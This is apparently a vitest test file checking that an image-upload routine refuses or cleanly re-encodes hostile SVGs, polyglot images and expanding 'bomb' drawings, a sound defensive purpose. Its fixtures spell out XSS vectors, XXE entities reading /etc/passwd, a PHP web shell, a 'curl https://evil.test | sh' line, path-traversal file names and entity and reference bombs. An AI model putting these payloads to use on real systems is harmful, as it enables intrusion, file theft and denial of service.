import { setImmediate } from 'node:timers/promises';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { bmpOf } from '../../../test/bmp.ts';
import { howMany, longTest } from '../../../test/deep.ts';
import { prepareMedia } from './store-media.ts';
import { processorTime } from '../../../../domain/test/processor-time.ts';

const text = (content: string) => Buffer.from(content);
const svg = (content: string) =>
  text(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="http://www.w3.org/1999/xhtml" width="40" height="30"><rect width="4" height="3"/>${content}</svg>`,
  );

const elements = (
  'script foreignObject a animate set animateTransform animateMotion use image feImage style handler listener link cursor mpath ' +
  'x:script x:iframe x:object x:embed x:img x:form x:meta x:base tref color-profile'
).split(' ');
const attributes = [
  'onload="alert(1)"',
  'onclick="alert(1)" onbegin="alert(1)"',
  'href="javascript:alert(1)"',
  'xlink:href="data:text/html,&lt;script>alert(1)&lt;/script>"',
  'href="https://evil.test/x.svg#a" src="https://evil.test/x"',
  'style="background:url(https://evil.test/x)" fill="url(https://evil.test/y)"',
  'attributeName="href" to="javascript:alert(1)" values="javascript:alert(1)"',
];
const drawings = elements.flatMap((element) =>
  attributes.map((attribute) => ({
    name: `a drawing with ${element} ${attribute}`,
    bytes: svg(`<${element} ${attribute}>alert(1)</${element}>`),
  })),
);

const documents = [
  ['<!DOCTYPE svg [<!ENTITY a "aaaa">]>', '&a;'],
  ['<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '&a;'],
  ['<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.test/a.dtd"> %a;]>', ''],
  [
    `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]>`,
    '&c;',
  ],
  ['<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.test/svg11.dtd">', ''],
  ['<?xml-stylesheet href="https://evil.test/a.xsl" type="text/xsl"?>', ''],
  ['<?xml version="1.0" encoding="UTF-7"?>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
].map(([before = '', inside = ''], at) => ({
  name: `document ${at}`,
  bytes: Buffer.concat([text(before), svg(`<text>${inside}</text>`)]),
}));

/** What somebody hides in a picture, and where. */
const riders = [
  '<script>alert(1)</script>',
  '<!doctype html><html><body onload=alert(1)>',
  '<?php system($_GET["c"]); ?>',
  'PK\x03\x04evil.jar',
  '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
  'MZ\x90\x00This program cannot be run in DOS mode.',
  '#!/bin/sh\ncurl https://evil.test | sh',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '*/=alert(1)//',
];
const formats = ['png', 'jpeg', 'gif', 'webp', 'avif'] as const;
const names = [
  'a.png',
  'a.png.html',
  'a.html.png',
  'a.svg.png',
  '../../a.png',
  'a.png\0.html',
  'a;.asp.png',
  '.htaccess',
];

type Hostile = { readonly name: string; readonly bytes: Buffer; readonly rider?: string };
let polyglots: Hostile[];

beforeAll(async () => {
  const picture = sharp({ create: { width: 24, height: 16, channels: 3, background: '#36a' } });
  polyglots = [];
  for (const format of formats) {
    const plain = await picture.clone().toFormat(format).toBuffer();
    for (const [at, rider] of riders.entries()) {
      polyglots.push({ name: `${format} followed by ${at}`, bytes: Buffer.concat([plain, text(rider)]), rider });
      const inside = await picture
        .clone()
        .withExif({ IFD0: { ImageDescription: rider.replaceAll('\0', ''), Copyright: rider.replaceAll('\0', '') } })
        .toFormat(format)
        .toBuffer();
      polyglots.push({ name: `${format} that says ${at}`, bytes: inside, rider });
    }
  }
  const windowsBitmap = bmpOf({ width: 24, height: 16, bits: 24 }, (x) => x * 0x30201);
  for (const [at, rider] of riders.entries()) {
    const bytes = Buffer.concat([windowsBitmap, text(rider)]);
    polyglots.push({ name: `bmp followed by ${at}`, bytes, rider });
    const between = Buffer.concat([windowsBitmap.subarray(0, 54), text(rider), windowsBitmap.subarray(54)]);
    between.writeUInt32LE(54 + text(rider).length, 10);
    polyglots.push({ name: `bmp with ${at} before its pixels`, bytes: between, rider });
  }
  for (const [at, rider] of riders.entries())
    for (const head of [
      'GIF89a',
      '\x89PNG\r\n\x1a\n',
      '\xff\xd8\xff\xe0',
      'RIFF\0\0\0\0WEBPVP8 ',
      `BM${'\0'.repeat(12)}(\0\0\0`,
      '<svgx>',
      ' ',
    ])
      polyglots.push({
        name: `the beginning ${JSON.stringify(head)} of ${at}`,
        bytes: Buffer.from(head + rider, 'latin1'),
        rider,
      });
}, longTest);

const forbidden =
  /<(?:script|foreignObject|style on)|javascript:|evil\.test|\son\w+=|data:|<a[\s>]|animate|<set|handler|listener|<!|<\?|<(?:feImage|iframe|object|embed|link|meta|base|form|tref|x:)/i;

describe('hostile files (T24)', () => {
  it(
    'are refused, or stored as a picture made anew, however they are called',
    async () => {
      const all: Hostile[] = [...drawings, ...documents, ...polyglots];
      const step = Math.ceil(all.length / howMany({ sample: 70, deep: all.length }));
      const tried = all.filter((_, at) => at % step === 0);
      const kept: string[] = [];
      let stored = 0;
      for (const [at, { name, bytes, rider }] of tried.entries()) {
        const media = await prepareMedia(bytes, names[at % names.length] ?? '').catch(
          (error: { code?: string }) => error,
        );
        if (!('content' in media)) {
          if (media.code !== 'INVALID' && media.code !== 'TOO_LARGE') kept.push(`${name} broke it: ${media.code}`);
          continue;
        }
        stored += 1;
        const { content, type } = media;
        if (content.equals(bytes)) kept.push(`${name} is stored as given`);
        if (rider && content.includes(rider)) kept.push(`${name} still says it`);
        if (!['image/webp', 'image/svg+xml'].includes(type.content_type)) kept.push(`${name} is ${type.content_type}`);
        if (type.content_type === 'image/svg+xml' && forbidden.test(content.toString()))
          kept.push(`${name}: ${content.toString()}`);
      }
      console.info(
        `${tried.length} of ${all.length} hostile files, ${stored} made anew, ${tried.length - stored} refused`,
      );
      expect(kept).toEqual([]);
      expect(all.length).toBeGreaterThan(300);
      expect(stored).toBeGreaterThan(tried.length / 4);
    },
    longTest,
  );

  it.each([
    ['plainly', '<g>'],
    ['behind the ends of tags in quotes', '<g fill="/>">'],
    ['between comments', '<!-- </g> --><g>'],
  ])('that nest ten thousand elements %s are refused at once', async (_how, begin) => {
    const began = processorTime();
    const bytes = svg(begin.repeat(10_000) + '</g>'.repeat(10_000));
    await expect(prepareMedia(bytes, 'bomb.svg')).rejects.toMatchObject({ code: 'TOO_LARGE' });
    expect(processorTime() - began).toBeLessThan(1000);
  });

  it('do not take more memory than a picture may', async () => {
    const flat = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const before = process.memoryUsage().rss;
    const refused = Array.from({ length: 20 }, () =>
      prepareMedia(flat, 'bomb.png').catch(({ code }: { code: string }) => code),
    );
    expect(new Set(await Promise.all(refused))).toEqual(new Set(['TOO_LARGE']));
    expect((process.memoryUsage().rss - before) / 1024 / 1024).toBeLessThan(256);
  });
});

/** Levels of so many references, each to the level before. */
const levels = (count: number, each: number, refer: (to: string) => string, leaf: string) =>
  `<defs><g id="l0">${leaf}</g>${Array.from({ length: count }, (_, at) => `<g id="l${at + 1}">${refer(`l${at}`).repeat(each)}</g>`).join('')}</defs>`;
const use = (to: string) => `<use href="#${to}"/>`;
const dot = '<rect width="1" height="1"/>';
const again = (element: string) => Array.from({ length: 12 }, (_, at) => `<${element} id="l${at}"/>`).join('');
const marker = `<marker id="m">${dot.repeat(50)}</marker>`;
const pattern = `<pattern id="p">${dot.repeat(50)}</pattern>`;
const mask = `<mask id="k">${dot.repeat(50)}</mask>`;
const zigzag = (n: number) => `<path d="M0 0${'h1'.repeat(2000 * n)}"/>`;
/** Each kind of a size `n` between 1 and 40. */
const bombs: readonly [by: string, make: (n: number) => string][] = [
  ['use', (n) => levels(12, 10 + (n % 5), use, dot) + use('l12')],
  ['few levels of many', (n) => levels(3, 40 + n, use, dot) + use('l3')],
  [
    'patterns',
    (n) =>
      `${levels(6, 10 + (n % 5), (to) => `<rect width="1" height="1" fill="url(#${to})"/>`, dot)}<rect width="4" height="4" mask="url(#l6)"/>`,
  ],
  [
    'a style',
    (n) => `${levels(4, 10 + (n % 5), use, dot)}<style>rect{clip-path:url(#l4)}</style>${dot.repeat(10 + n)}`,
  ],
  [
    'markers',
    (n) => `<marker id="m">${dot.repeat(50)}</marker><path marker-mid="url(#m)" d="M0 0${'h1'.repeat(2000 * n)}"/>`,
  ],
  ['a circle', (n) => `${dot.repeat(n)}<g id="a">${use('b')}</g><g id="b">${use('a')}</g>`],
  ['a chain', (n) => levels(200 + n, 1, use, dot) + use(`l${200 + n}`)],
  ['plain elements', (n) => dot.repeat(20_000 + 4000 * n)],
  ['elements in many groups', (n) => `<g>${dot.repeat(10)}</g>`.repeat(2000 + 400 * n)],
  ['ids twice, the second of them empty', (n) => `${levels(12, 10 + (n % 5), use, dot)}${use('l12')}${again('g')}`],
  ['ids twice, the second of them left out', (n) => `${levels(12, 10 + (n % 5), use, dot)}${use('l12')}${again('a')}`],
  ['a marker of a group', (n) => `${marker}<g marker-mid="url(#m)">${'<path d="M0 0h1zzh1"/>'.repeat(400 + n)}</g>`],
  ['a marker of a group in a style', (n) => `${marker}<g style="fill:red;marker:url('#m')">${zigzag(n)}</g>`],
  ['a fill of a group', (n) => `${pattern}<g fill="url(#p)">${dot.repeat(500 + n)}</g>`],
  [
    'a stroke above what is used',
    (n) => `${pattern}${dot.repeat(n)}<g stroke="url(#p)">${levels(3, 10, use, dot)}${use('l3')}</g>`,
  ],
  ['a fill of letters', (n) => `${pattern}<text fill="url(#p)">${'a'.repeat(1000 + n)}</text>`],
  ['a mask that is passed on', (n) => `${mask}<g mask="url(#k)">${'<rect mask="inherit"/>'.repeat(500 + n)}</g>`],
  [
    'a name for a marker',
    (n) => `${marker}<g style="--m:url(#m)">${'<path style="marker:var(--m)" d="M0 0h1h1h1h1"/>'.repeat(200 + n)}</g>`,
  ],
  ['a marker in a style sheet', (n) => `${marker}<style>path{marker-mid:url(#m)}</style>${zigzag(n)}`],
  ['a marker in a nested style sheet', (n) => `${marker}<style>svg{path{marker-mid:url(#m)}}</style>${zigzag(n)}`],
  [
    'a marker in a style sheet behind an open bracket',
    (n) => `${marker}<style>path{a:( } g{ );marker-mid:url(#m)}</style>${zigzag(n)}`,
  ],
  [
    'a marker in a style sheet behind quotes',
    (n) => `${marker}<style>path{a:"}g{";marker-mid:url(#m)}</style>${zigzag(n)}`,
  ],
  [
    'a style sheet that leads from one to the next',
    (n) =>
      `<style>${Array.from({ length: 6 }, (_, at) => `.c${at}{fill:url(#p${at})}`).join('')}</style>${Array.from({ length: 7 }, (_, at) => `<pattern id="p${at}">${`<rect class="c${at - 1}"/>`.repeat(10 + (n % 5))}</pattern>`).join('')}<rect fill="url(#p6)"/>`,
  ],
  [
    'what a marker takes from its path',
    (n) =>
      `${pattern}<marker id="o">${'<rect fill="context-fill"/>'.repeat(10)}</marker><g marker-mid="url(#o)"><path fill="url(#p)" d="M0 0${'h1'.repeat(100 + n)}"/></g>`,
  ],
  ['comments', (n) => '<!---->'.repeat(200_000 + 1000 * n)],
  [
    'attributes of one element',
    (n) => `<g ${Array.from({ length: 200_000 + 1000 * n }, (_, at) => `a${at}=""`).join(' ')}/>`,
  ],
];

describe('a drawing that expands, or is large by itself (T47)', () => {
  const tries = howMany({ sample: 3 * bombs.length, deep: 46 * bombs.length });
  it(
    `is refused within 200 ms of a processor, ${tries} of all kinds`,
    async () => {
      // The parser is loaded with the first drawing.
      await prepareMedia(svg(''), 'a.svg');
      const before = process.memoryUsage().rss;
      const longest = new Map<string, number>();
      for (let turn = 0; turn < tries; turn++) {
        const [by, make] = bombs[turn % bombs.length] ?? ['', () => ''];
        const bytes = svg(make(1 + ((Math.floor(turn / bombs.length) * 13) % 40)));
        // The least of three: what the tests before have left to collect falls upon any of them.
        let least = Infinity;
        for (let time = 0; time < 3; time++) {
          const began = processorTime();
          const refusal: unknown = await prepareMedia(bytes, 'a.svg').catch((error: unknown) => error);
          least = Math.min(least, processorTime() - began);
          const tooMuch: unknown = expect.objectContaining({ code: 'TOO_LARGE', issue: { code: 'TOO_MANY_PARTS' } });
          expect([by, refusal]).toEqual([by, tooMuch]);
        }
        longest.set(by, Math.max(least, longest.get(by) ?? 0));
        // As between two uploads: until then, what the parser refers to weakly is kept.
        await setImmediate();
      }
      const said = [...longest].map(([by, took]) => `${by} ${Math.round(took)} ms`).join(', ');
      const more = Math.round((process.memoryUsage().rss - before) / 1e6);
      console.info(`${tries} bombs, longest by kind: ${said}; ${more} MB more memory at the end`);
      expect(Math.max(...longest.values())).toBeLessThan(200);
    },
    longTest,
  );

  it('may hold bitmaps, of as many pixels as one picture may have', async () => {
    const bitmap = async (width: number) => {
      const content = await sharp({ create: { width, height: 5000, channels: 3, background: 'teal' } })
        .png()
        .toBuffer();
      return `<image width="4" height="3" href="data:image/png;base64,${content.toString('base64')}"/>`;
    };
    const [small, large] = [await bitmap(3000), await bitmap(9000)];
    const prepared = await prepareMedia(svg(small + small), 'drawing.svg');
    expect(prepared).toMatchObject({ width: 40 });
    const tooLarge = { code: 'TOO_LARGE', issue: { code: 'PIXELS' } };
    await expect(prepareMedia(svg(large), 'drawing.svg')).rejects.toMatchObject(tooLarge);
    await expect(prepareMedia(svg(small + small + small), 'drawing.svg')).rejects.toMatchObject(tooLarge);
  });

  it('stays where it refers as drawings do', async () => {
    const gradient = '<linearGradient id="g"><stop offset="0"/><stop offset="1"/></linearGradient>';
    const shapes = '<rect width="1" height="1" fill="url(#g)"/>'.repeat(3000);
    const { content } = await prepareMedia(svg(gradient + levels(3, 10, use, '<rect/>') + use('l3') + shapes), 'a.svg');
    expect(content.toString()).toContain('href="#l3"');
  });

  it.each([
    [
      'Inkscape',
      `<defs><marker id="m"><path style="fill:context-stroke" d="M0 0"/></marker><linearGradient id="g"/><clipPath id="c"><path d="M0 0h9v9z"/></clipPath></defs>
      <g clip-path="url(#c)">${`<path style="fill:none;stroke:url(#g);marker:none;marker-end:url(#m)" d="M0 0${'h1'.repeat(200)}"/>`.repeat(150)}</g>`,
    ],
    [
      'Illustrator',
      `<defs><style>.cls-1,.cls-2{fill:none;}.cls-2{clip-path:url(#c);}.cls-3{fill:url(#g);font-family:'Open Sans', "Arial";}.cls-4{fill:url(#p);}</style><clipPath id="c"><rect class="cls-1"/></clipPath><linearGradient id="g"/><pattern id="p"><path class="cls-1"/></pattern></defs>
      ${'<g class="cls-2"><path class="cls-3" d="M0 0h1"/><path class="cls-4" d="M0 0h1"/></g>'.repeat(200)}`,
    ],
    [
      'draw.io',
      `<g>${'<path d="M0 0h9" fill="none" style="stroke: light-dark(rgb(0, 0, 0), var(--ge-dark, rgb(9, 9, 9)));"/>'.repeat(400)}</g>`,
    ],
    [
      'somebody by hand',
      `<style>svg{--line:red} path{marker-end:url("#m")}</style><marker id="m"><path d="M0 0h1v1z"/></marker><g fill="url(#p)"><pattern id="p">${dot}</pattern>${dot.repeat(500)}</g>${'<path d="M0 0h1v1"/>'.repeat(200)}`,
    ],
  ])('stays as %s writes it', async (_program, content) => {
    const { type } = await prepareMedia(svg(content), 'a.svg');
    expect(type.content_type).toBe('image/svg+xml');
  });
});
